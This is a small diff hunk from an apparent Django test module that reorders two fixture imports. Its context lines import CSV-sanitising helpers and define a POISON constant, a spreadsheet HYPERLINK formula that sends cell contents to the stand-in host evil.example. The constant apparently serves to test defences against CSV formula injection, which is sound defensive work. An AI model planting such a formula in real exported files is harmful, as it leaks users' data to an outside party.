@@ -19,8 +19,8 @@ from django.urls import reverse
 from core.csv import FORMULA_STARTS, csv_text, safe_cell
 from registrations.models import Registration
 from reporting.tables import TABLE_KEYS
-from tests.reporting.conftest import world  # noqa: F401 (a fixture)
 from tests.referrals.servicemap.conftest import network  # noqa: F401 (a fixture)
+from tests.reporting.conftest import world  # noqa: F401 (a fixture)
 
 ROOT = Path(__file__).resolve().parent.parent
 POISON = '=HYPERLINK("http://evil.example/?"&A1,"x")'
